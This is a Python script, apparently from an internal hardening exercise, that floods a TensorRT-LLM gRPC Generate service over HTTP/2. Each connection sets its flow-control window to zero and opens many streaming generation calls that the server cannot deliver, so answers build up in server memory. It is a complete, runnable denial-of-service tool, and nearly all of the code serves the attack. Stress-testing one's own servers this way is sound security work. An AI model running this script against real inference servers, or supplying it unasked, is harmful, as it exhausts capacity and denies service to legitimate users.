"""Callers that never open their HTTP/2 window: each connection says
SETTINGS_INITIAL_WINDOW_SIZE 0, starts `calls` trtllm Generate calls of
`tokens` tokens and holds them for `seconds`, reading (and dropping) what the
server sends so its socket never backs up. No answer byte can reach them:
every answer waits in the server (hardening round three, attack 3).

    python3 h2_stall.py <host:port> <connections> <calls> <tokens> <seconds>

Prints, as JSON, the response HEADERS frames and the GOAWAYs received.
"""
import json
import socket
import struct
import sys
import threading
import time


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """An HPACK literal header field without indexing, new name (RFC 7541 §6.2.2)."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def varint(n: int) -> bytes:
    out = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out += bytes([byte | 0x80])
        else:
            return out + bytes([byte])


def field(number: int, wire: int, payload: bytes) -> bytes:
    return varint(number << 3 | wire) + payload


def generate(request_id: str, tokens: int) -> bytes:
    """trtllm.GenerateRequest: request_id 1, tokenized 2 {input_token_ids 2}, max_tokens 5, streaming 6."""
    ids = b"".join(varint(t) for t in (1, 2, 3))
    tokenized = field(2, 2, varint(len(ids)) + ids)
    rid = request_id.encode()
    message = (
        field(1, 2, varint(len(rid)) + rid)
        + field(2, 2, varint(len(tokenized)) + tokenized)
        + field(5, 0, varint(tokens))
        + field(6, 0, b"\x01")
    )
    return b"\x00" + struct.pack(">I", len(message)) + message


def stall(host: str, port: int, n: int, calls: int, tokens: int, seconds: float, result: dict) -> None:
    sock = socket.create_connection((host, port))
    block = b"".join(
        literal(k, v)
        for k, v in [
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":path", b"/trtllm.TrtllmService/Generate"),
            (b":authority", f"{host}:{port}".encode()),
            (b"content-type", b"application/grpc"),
            (b"te", b"trailers"),
        ]
    )
    out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0, struct.pack(">HI", 0x4, 0))
    for i in range(calls):
        stream = 1 + 2 * i
        out += frame(0x1, 0x4, stream, block) + frame(0x0, 0x1, stream, generate(f"stall-{n}-{i}", tokens))
    sock.sendall(out)
    deadline = time.monotonic() + seconds
    sock.settimeout(0.5)
    buf = b""
    while time.monotonic() < deadline:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            break
        if not data:
            break
        buf += data
        while len(buf) >= 9:
            length = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + length:
                break
            if buf[3] == 0x1:
                result["headers"] += 1
            if buf[3] == 0x7 and length >= 8:
                result["goaway_codes"].append(int.from_bytes(buf[13:17], "big"))
            buf = buf[9 + length:]
    sock.close()


def main() -> None:
    host, port = sys.argv[1].rsplit(":", 1)
    connections, calls, tokens = (int(a) for a in sys.argv[2:5])
    seconds = float(sys.argv[5])
    result = {"headers": 0, "goaway_codes": []}
    threads = [
        threading.Thread(target=stall, args=(host, int(port), n, calls, tokens, seconds, result))
        for n in range(connections)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(json.dumps(result))


if __name__ == "__main__":
    main()
